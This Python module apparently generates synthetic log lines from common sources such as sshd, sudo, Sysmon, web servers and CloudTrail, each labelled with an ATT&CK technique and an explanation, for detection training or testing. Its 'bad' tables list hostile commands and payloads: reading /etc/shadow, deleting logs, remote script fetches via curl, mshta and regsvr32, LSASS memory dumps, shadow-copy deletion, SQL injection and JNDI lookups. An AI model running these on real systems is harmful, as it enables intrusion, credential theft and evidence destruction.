"""Single log lines of usual shapes: their text, what stands in them, and what they say.

A maker takes the chance and a time, and what a caller wants fixed; the rest is invented. Shapes follow the programs'
documentation: OpenSSH, sudo, auditd, Windows event text as key=value, Sysmon, combined log format, BIND, netfilter,
Postfix, OpenVPN, AWS CloudTrail (the fields that matter).
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import datetime
from random import Random

from vedette.forge.scene import cast

Value = str | int
Maker = Callable[[Random, datetime], "Line"]


@dataclass(frozen=True, slots=True)
class Line:
    source: str  # "sshd"
    text: str
    fields: Mapping[str, Value]  # in a stable order; each value stands in the text
    says: str  # a sentence
    technique: str = ""  # ATT&CK id, where the line alone is a sign of one; "" for everyday business
    why: str = ""  # a sentence: what points to it, or what makes it harmless
    family: str = ""  # lines of the same family are told apart by values alone


def sshd_failed(rng: Random, when: datetime, *, host: str = "", user: str = "", address: str = "") -> Line:
    host, address = host or cast.server(rng), address or cast.outside(rng)
    known = bool(user) or rng.random() < 0.4
    user = user or (cast.person(rng) if known else rng.choice(cast.TRIED))
    port, pid = cast.port(rng), rng.randint(800, 60000)
    who = user if known else f"invalid user {user}"
    text = f"{cast.syslog(when)} {host} sshd[{pid}]: Failed password for {who} from {address} port {port} ssh2"
    fields: dict[str, Value] = {"time": cast.syslog(when), "host": host, "program": "sshd", "pid": pid, "user": user,
                                "source_ip": address, "source_port": port}  # fmt: skip
    missing = "" if known else ", an account that does not exist there"
    return Line("sshd", text, fields, f"On {host}, a password was refused for {user}{missing}; the client was {address}.",
                why="One refused password alone may be a typing mistake; many from one address are guessing.",
                family="sshd-failed")  # fmt: skip


def sshd_accepted(rng: Random, when: datetime, *, host: str = "", user: str = "", address: str = "") -> Line:
    host, user = host or cast.server(rng), user or cast.person(rng)
    address, port, pid = address or cast.inside(rng), cast.port(rng), rng.randint(800, 60000)
    how = rng.choice(["password", "publickey"])
    text = f"{cast.syslog(when)} {host} sshd[{pid}]: Accepted {how} for {user} from {address} port {port} ssh2"
    fields: dict[str, Value] = {"time": cast.syslog(when), "host": host, "program": "sshd", "pid": pid, "method": how,
                                "user": user, "source_ip": address, "source_port": port}  # fmt: skip
    return Line("sshd", text, fields, f"{user} logged in to {host} over SSH from {address}, with method {how}.",
                why="A login by itself is everyday business; what matters is whether this user comes from there.",
                family="sshd-accepted")  # fmt: skip


SUDO_DAILY = ("/usr/bin/systemctl status nginx", "/usr/bin/apt-get update", "/usr/bin/journalctl -u postfix",
              "/usr/bin/tail -n 100 /var/log/syslog", "/usr/sbin/nginx -t", "/usr/bin/df -h",
              "/usr/bin/systemctl reload nginx", "/usr/bin/ls /srv/www")  # fmt: skip
SUDO_BAD = {
    "/usr/bin/cat /etc/shadow": ("T1003.008", "it reads the password hashes of all local accounts"),
    "/usr/bin/rm -f /var/log/auth.log": ("T1070.002", "it deletes the log of logins"),
    "/usr/sbin/useradd -o -u 0 -m support2": ("T1136.001", "it makes a second account with user id 0"),
    "/usr/bin/tee -a /root/.ssh/authorized_keys": ("T1098.004", "it adds a key that may log in as root"),
    "/usr/bin/crontab -u root /tmp/.cron": ("T1053.003", "it installs a crontab for root out of a file in /tmp"),
    "/usr/bin/chmod u+s /usr/local/bin/python3": ("T1548.001", "it lets every user run an interpreter as root"),
    "/usr/sbin/iptables -F": ("T1562.004", "it drops every rule of the host's firewall"),
}


def sudo(rng: Random, when: datetime, *, bad: bool | None = None, host: str = "", user: str = "") -> Line:
    bad = rng.random() < 0.5 if bad is None else bad
    host, user, tty = host or cast.server(rng), user or cast.person(rng), f"pts/{rng.randint(0, 9)}"
    command = rng.choice(list(SUDO_BAD)) if bad else rng.choice(SUDO_DAILY)
    pwd = rng.choice(["/tmp", f"/home/{user}", "/var/www", "/opt"])  # noqa: S108
    text = f"{cast.syslog(when)} {host} sudo: {user} : TTY={tty} ; PWD={pwd} ; USER=root ; COMMAND={command}"
    fields: dict[str, Value] = {"time": cast.syslog(when), "host": host, "program": "sudo", "user": user, "tty": tty,
                                "working_directory": pwd, "run_as": "root", "command": command}  # fmt: skip
    technique, reason = SUDO_BAD.get(command, ("", ""))
    why = f"The command is suspicious: {reason}." if reason else "The command is part of everyday administration."
    return Line("sudo", text, fields, f"{user} ran `{command}` as root on {host}.", technique, why, "sudo")


AUDIT_BAD = {
    "curl -s http://{domain}/x.sh -o /tmp/x.sh": ("T1105", "it fetches a script from an outside server into /tmp"),
    "cat /etc/shadow": ("T1003.008", "it reads the password hashes of all local accounts"),
    "nmap -sS -p- 10.0.0.0/24": ("T1046", "it scans every port of a network"),
    "systemctl enable /etc/systemd/system/{word}.service": ("T1543.002", "it makes a service start with the system"),
    "find / -perm -4000 -type f": ("T1083", "it looks through the whole disk for programs that run as their owner"),
    "base64 -d /tmp/{word}.b64": ("T1140", "it decodes a hidden file in /tmp"),
}
AUDIT_DAILY = ("ls -la /srv/www", "grep -c error /var/log/app.log", "date -u", "uptime", "tar czf /backup/{word}.tgz /srv",
               "vim /home/{word}/notes.txt", "python3 /opt/{word}/report.py")  # fmt: skip


def auditd(rng: Random, when: datetime, *, bad: bool | None = None, host: str = "") -> Line:
    bad = rng.random() < 0.5 if bad is None else bad
    host, uid = host or cast.server(rng), rng.randint(1000, 1060)
    form = rng.choice(list(AUDIT_BAD)) if bad else rng.choice(AUDIT_DAILY)
    command = form.replace("{domain}", cast.domain(rng)).replace("{word}", rng.choice(cast.WORDS))
    argv = command.split(" ")
    serial, stamp = rng.randint(1000, 999999), f"{when.timestamp():.3f}"
    told = " ".join(f'a{n}="{arg}"' for n, arg in enumerate(argv))
    text = f"node={host} type=EXECVE msg=audit({stamp}:{serial}): argc={len(argv)} {told} auid={uid}"
    fields: dict[str, Value] = {"host": host, "type": "EXECVE", "time": stamp, "serial": serial, "argc": len(argv),
                                "a0": argv[0], "auid": uid}  # fmt: skip
    technique, reason = AUDIT_BAD.get(form, ("", ""))
    why = f"It is suspicious: {reason}." if reason else "Nothing in it goes beyond everyday work."
    return Line("auditd", text, fields, f"On {host}, the user with login id {uid} ran `{command}`.", technique, why,
                "auditd")  # fmt: skip


LOGON_TYPES = {2: "interactive", 3: "network", 5: "service", 7: "unlock", 10: "remote interactive (RDP)"}


def windows_logon(rng: Random, when: datetime, *, failed: bool | None = None, host: str = "", user: str = "",
                  address: str = "") -> Line:  # fmt: skip
    failed = rng.random() < 0.5 if failed is None else failed
    host, user, address = host or cast.desk(rng), user or cast.person(rng), address or cast.inside(rng)
    kind = rng.choice([2, 3, 7, 10])
    event = 4625 if failed else 4624
    status = " Status=0xC000006A" if failed else ""
    text = (f"{cast.iso(when)} {host} Security EventID={event} TargetUserName={user} LogonType={kind} "
            f"IpAddress={address}{status}")  # fmt: skip
    fields: dict[str, Value] = {"time": cast.iso(when), "host": host, "channel": "Security", "event_id": event,
                                "user": user, "logon_type": kind, "source_ip": address}  # fmt: skip
    told = "failed with a wrong password" if failed else "succeeded"
    return Line("windows", text, fields, f"A logon of type {kind} ({LOGON_TYPES[kind]}) for {user} on {host} from {address} {told}.",
                why="One such event is everyday business; a series of failures, or a source that does not fit, is not.",
                family=f"windows-{event}")  # fmt: skip


def windows_change(rng: Random, when: datetime, *, host: str = "") -> Line:
    host, actor = host or cast.desk(rng), cast.person(rng)
    made = f"svc_{rng.choice(cast.WORDS)}"
    event, more, says, technique, why = rng.choice([
        (4720, f"TargetUserName={made}", f"{actor} created the account {made} on {host}.", "T1136.001",
         "A new local account outside a change request gives an intruder a way back."),
        (1102, "Channel=Security", f"{actor} cleared the Security event log on {host}.", "T1070.001",
         "Clearing the log removes evidence; administrators hardly ever need it."),
        (7045, f"ServiceName={made} ImagePath=C:\\Windows\\Temp\\{made}.exe",
         f"A service {made} was installed on {host}; its program lies in C:\\Windows\\Temp.", "T1543.003",
         "Services from a temporary folder are a usual way to persist or to run code from afar."),
        (4698, f"TaskName=\\{made}", f"{actor} created the scheduled task {made} on {host}.", "T1053.005",
         "A task that nobody ordered starts a program again and again."),
        (4732, f"MemberName={made} TargetUserName=Administrators",
         f"{actor} added {made} to the group Administrators on {host}.", "T1098",
         "Membership in that group gives full control of the machine."),
    ])  # fmt: skip
    channel = "System" if event == 7045 else "Security"
    text = f"{cast.iso(when)} {host} {channel} EventID={event} SubjectUserName={actor} {more}"
    fields: dict[str, Value] = {"time": cast.iso(when), "host": host, "channel": channel, "event_id": event,
                                "actor": actor}  # fmt: skip
    return Line("windows", text, fields, says, technique, why, "windows-change")


SYSMON_BAD = (
    ("powershell.exe -NoP -W Hidden -Enc {blob}", "C:\\Program Files\\Microsoft Office\\WINWORD.EXE", "T1059.001",
     "a word processor starts a hidden shell with encoded commands"),
    ("rundll32.exe C:\\Users\\Public\\{word}.dll,Start", "C:\\Windows\\explorer.exe", "T1218.011",
     "rundll32 loads a library out of a folder that everybody may write"),
    ("mshta.exe http://{domain}/{word}.hta", "C:\\Windows\\explorer.exe", "T1218.005",
     "mshta runs a script straight from an outside server"),
    ("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\{word}.dmp full",
     "C:\\Windows\\System32\\cmd.exe", "T1003.001", "comsvcs.dll is used to dump a process's memory, as is done with LSASS"),
    ("vssadmin.exe delete shadows /all /quiet", "C:\\Windows\\System32\\cmd.exe", "T1490",
     "it deletes all shadow copies, which hinders recovery"),
    ("reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {word} /d C:\\Users\\Public\\{word}.exe",
     "C:\\Windows\\System32\\cmd.exe", "T1547.001", "it makes a program start at every logon"),
    ("schtasks.exe /create /tn {word} /tr C:\\Users\\Public\\{word}.exe /sc minute", "C:\\Windows\\System32\\cmd.exe",
     "T1053.005", "it makes a task that runs a program of a public folder every minute"),
    ("regsvr32.exe /s /u /i:http://{domain}/{word}.sct scrobj.dll", "C:\\Windows\\System32\\cmd.exe", "T1218.010",
     "regsvr32 fetches and runs a script from an outside server"),
    ("wmic.exe /node:{inside} process call create C:\\Temp\\{word}.exe", "C:\\Windows\\System32\\cmd.exe", "T1047",
     "WMI starts a program on another machine"),
)  # fmt: skip
SYSMON_DAILY = (
    ("WINWORD.EXE /n C:\\Users\\{user}\\Documents\\{word}.docx", "C:\\Windows\\explorer.exe"),
    ("chrome.exe --type=renderer", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
    ("svchost.exe -k netsvcs -p", "C:\\Windows\\System32\\services.exe"),
    ("notepad.exe C:\\Users\\{user}\\Desktop\\{word}.txt", "C:\\Windows\\explorer.exe"),
    ("msiexec.exe /V", "C:\\Windows\\System32\\services.exe"),
    ("Teams.exe", "C:\\Windows\\explorer.exe"),
)


def sysmon(rng: Random, when: datetime, *, bad: bool | None = None, host: str = "", user: str = "") -> Line:
    bad = rng.random() < 0.5 if bad is None else bad
    host, user, pid = host or cast.desk(rng), user or cast.person(rng), rng.randint(1000, 20000)
    form, parent, technique, reason = rng.choice(SYSMON_BAD) if bad else (*rng.choice(SYSMON_DAILY), "", "")
    slots = {"{blob}": random_blob(rng), "{word}": rng.choice(cast.WORDS), "{domain}": cast.domain(rng),
             "{inside}": cast.inside(rng), "{user}": user}  # fmt: skip
    command = form
    for slot, value in slots.items():
        command = command.replace(slot, value)
    text = (f"{cast.iso(when)} {host} Sysmon EventID=1 ProcessId={pid} User={user} "
            f'CommandLine="{command}" ParentImage="{parent}"')  # fmt: skip
    fields: dict[str, Value] = {"time": cast.iso(when), "host": host, "event_id": 1, "pid": pid, "user": user,
                                "command_line": command, "parent_image": parent}  # fmt: skip
    why = f"It is suspicious: {reason}." if reason else "Program and parent fit everyday work at a desk."
    says = f"{user} started `{command}` on {host}; the parent was {parent}."
    return Line("sysmon", text, fields, says, technique, why, "sysmon")


def random_blob(rng: Random) -> str:
    """Looks like the start of UTF-16 text in Base64."""
    return "".join(rng.choice("SQBFAGcwZXYh") + "A" for _ in range(rng.randint(8, 16)))


WEB_BAD = (
    ("/index.php?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--", "T1190", "the query carries a UNION SELECT"),
    ("/../../../../etc/passwd", "T1190", "the path climbs out of the web folder to /etc/passwd"),
    ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "T1190", "an encoded path climbs to a shell"),
    ("/uploads/{word}.php?cmd=whoami", "T1505.003", "a script in the folder for uploads takes a command as a parameter"),
    ("/?x=${jndi:ldap://{domain}/a}", "T1190", "the query carries a JNDI lookup to an outside server"),
    ("/wp-admin/{word}.php?c=id", "T1505.003", "a script that WordPress does not have takes a command as a parameter"),
)  # fmt: skip
WEB_DAILY = ("/", "/index.html", "/img/{word}.png", "/api/v1/orders/{n}", "/login", "/search?q={word}", "/robots.txt",
             "/css/site.css", "/products/{word}")  # fmt: skip
AGENTS = ("Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "curl/8.5.0", "python-requests/2.31")


def web(rng: Random, when: datetime, *, bad: bool | None = None, address: str = "") -> Line:
    bad = rng.random() < 0.5 if bad is None else bad
    address = address or cast.outside(rng)
    path, technique, reason = rng.choice(WEB_BAD) if bad else (rng.choice(WEB_DAILY), "", "")
    path = path.replace("{word}", rng.choice(cast.WORDS)).replace("{domain}", cast.domain(rng))
    path = path.replace("{n}", str(rng.randint(1, 9999)))
    method, status, size = rng.choice(["GET", "GET", "POST"]), rng.choice([200, 200, 302, 403, 404]), rng.randint(120, 60000)
    agent = rng.choice(AGENTS)
    stamp = when.strftime("%d/%b/%Y:%H:%M:%S +0000")
    text = f'{address} - - [{stamp}] "{method} {path} HTTP/1.1" {status} {size} "-" "{agent}"'
    fields: dict[str, Value] = {"source_ip": address, "time": stamp, "method": method, "path": path, "status": status,
                                "bytes": size, "user_agent": agent}  # fmt: skip
    says = f"{address} asked for `{path}` with {method}; the server answered {status}."
    if reason:
        why = f"It is an attack or a probe: {reason}. {_web_status(status)}"
    else:
        why = "Path and parameters are what visitors ask for every day."
    return Line("web", text, fields, says, technique, why, "web")


def _web_status(status: int) -> str:
    if status == 200:
        return "Status 200 means that the server answered normally, so it has to be looked at."
    return f"Status {status} alone does not show that it worked."


def dns(rng: Random, when: datetime, *, bad: bool | None = None, address: str = "") -> Line:
    bad = rng.random() < 0.5 if bad is None else bad
    address, port = address or cast.inside(rng), cast.port(rng)
    kind = rng.choice(["TXT", "NULL"]) if bad else rng.choice(["A", "AAAA", "MX"])
    name = f"{cast.random_label(rng, rng.randint(38, 56))}.{cast.domain(rng)}" if bad else f"{rng.choice(['www', 'mail', 'cdn'])}.{cast.domain(rng)}"
    stamp = when.strftime("%d-%b-%Y %H:%M:%S.000")
    text = f"{stamp} queries: info: client {address}#{port} ({name}): query: {name} IN {kind} +"
    fields: dict[str, Value] = {"time": stamp, "source_ip": address, "source_port": port, "name": name, "type": kind}
    why = ("The first label is long and looks random, and the type carries free text: that is how data is tunnelled in DNS."
           if bad else "Name and type are what a browser or mail server asks for.")  # fmt: skip
    return Line("dns", text, fields, f"{address} asked for the {kind} record of {name}.", "T1071.004" if bad else "", why, "dns")


def firewall(rng: Random, when: datetime, *, address: str = "", host: str = "", to: int = 0) -> Line:
    host, address, inner = host or "fw-01", address or cast.outside(rng), cast.inside(rng)
    action, dport, sport = rng.choice(["BLOCK", "ALLOW"]), to or rng.choice([22, 23, 80, 443, 445, 3389, 8080]), cast.port(rng)
    text = (f"{cast.syslog(when)} {host} kernel: [UFW {action}] IN=eth0 OUT= SRC={address} DST={inner} "
            f"PROTO=TCP SPT={sport} DPT={dport} SYN")  # fmt: skip
    fields: dict[str, Value] = {"time": cast.syslog(when), "host": host, "action": action, "source_ip": address,
                                "destination_ip": inner, "protocol": "TCP", "source_port": sport,
                                "destination_port": dport}  # fmt: skip
    told = "refused" if action == "BLOCK" else "let through"
    return Line("firewall", text, fields, f"{host} {told} a TCP connection from {address} to port {dport} of {inner}.",
                why="One packet says little; one source that tries many ports or hosts is a scan.", family="firewall")  # fmt: skip


def mail(rng: Random, when: datetime) -> Line:
    host, queue = f"mail-{rng.randint(1, 4):02}", cast.digest(rng, 10).upper()
    sender, to = f"{rng.choice(cast.WORDS)}@{cast.domain(rng)}", f"{cast.person(rng)}@corp.example"
    status, size = rng.choice(["sent", "deferred", "bounced"]), rng.randint(900, 90000)
    text = f"{cast.syslog(when)} {host} postfix/smtp[{rng.randint(500, 9000)}]: {queue}: from=<{sender}>, to=<{to}>, size={size}, status={status}"
    fields: dict[str, Value] = {"time": cast.syslog(when), "host": host, "queue_id": queue, "from": sender, "to": to,
                                "size": size, "status": status}  # fmt: skip
    told = {"sent": "was delivered", "deferred": "could not be delivered yet", "bounced": "was returned"}[status]
    return Line("mail", text, fields, f"A message from {sender} to {to} {told}.",
                why="The line holds neither subject nor content, so it cannot show whether the message was harmful.",
                family="mail")  # fmt: skip


def vpn(rng: Random, when: datetime, *, address: str = "", user: str = "") -> Line:
    address, user, ok = address or cast.outside(rng), user or cast.person(rng), rng.random() < 0.5
    port = cast.port(rng)
    told = "authentication succeeded" if ok else "authentication failed"
    text = f"{cast.iso(when)} vpn-01 openvpn: {address}:{port} TLS: Username/Password {told} for username '{user}'"
    fields: dict[str, Value] = {"time": cast.iso(when), "host": "vpn-01", "source_ip": address, "source_port": port,
                                "user": user, "result": "succeeded" if ok else "failed"}  # fmt: skip
    return Line("vpn", text, fields, f"At the VPN, {told} for {user} from {address}.",
                why="Whether it is harmful depends on where this user usually comes from.", family="vpn")  # fmt: skip


CLOUD = {
    "StopLogging": ("cloudtrail.amazonaws.com", "T1562.008", "it switches the audit trail off"),
    "DeleteTrail": ("cloudtrail.amazonaws.com", "T1562.008", "it deletes the audit trail"),
    "CreateAccessKey": ("iam.amazonaws.com", "T1098.001", "it makes a second set of credentials for an account"),
    "CreateUser": ("iam.amazonaws.com", "T1136.003", "it makes a new account"),
    "DescribeInstances": ("ec2.amazonaws.com", "", ""),
    "GetCallerIdentity": ("sts.amazonaws.com", "", ""),
    "ListBuckets": ("s3.amazonaws.com", "", ""),
    "AssumeRole": ("sts.amazonaws.com", "", ""),
}


def cloud(rng: Random, when: datetime, *, bad: bool | None = None, user: str = "", address: str = "") -> Line:
    bad = rng.random() < 0.5 if bad is None else bad
    name = rng.choice([k for k, v in CLOUD.items() if bool(v[1]) == bad])
    service, technique, reason = CLOUD[name]
    user, address = user or cast.person(rng), address or cast.outside(rng)
    region = rng.choice(["eu-central-1", "us-east-1", "eu-west-1", "ap-south-1"])
    fields: dict[str, Value] = {"eventTime": cast.iso(when), "eventSource": service, "eventName": name,
                                "awsRegion": region, "sourceIPAddress": address, "userName": user}  # fmt: skip
    why = f"It is suspicious unless it was ordered: {reason}." if reason else "Tools and people make such calls every day."
    return Line("cloud", json.dumps(fields), fields, f"{user} called {name} of {service} in {region} from {address}.",
                technique, why, "cloud")  # fmt: skip


SOURCES = {
    "sshd": "the OpenSSH server", "sudo": "sudo", "auditd": "the Linux audit daemon",
    "windows": "the Windows event log", "sysmon": "Sysmon", "web": "a web server's access log",
    "dns": "a DNS server's query log", "firewall": "a netfilter firewall", "mail": "a Postfix mail server",
    "vpn": "an OpenVPN server", "cloud": "AWS CloudTrail",
}  # fmt: skip
MAKERS: tuple[Maker, ...] = (sshd_failed, sshd_accepted, sudo, auditd, windows_logon, windows_change, sysmon, web, dns,
                             firewall, mail, vpn, cloud)  # fmt: skip


def anything(rng: Random, when: datetime) -> Line:
    return rng.choice(MAKERS)(rng, when)


def telling(rng: Random, when: datetime) -> Line:
    """A line that is a sign of a technique by itself."""
    if rng.random() < 0.2:
        return windows_change(rng, when)
    return rng.choice([sudo, auditd, sysmon, web, dns, cloud])(rng, when, bad=True)


def harmless(rng: Random, when: datetime) -> Line:
    return rng.choice([sudo, auditd, sysmon, web, dns, cloud])(rng, when, bad=False)
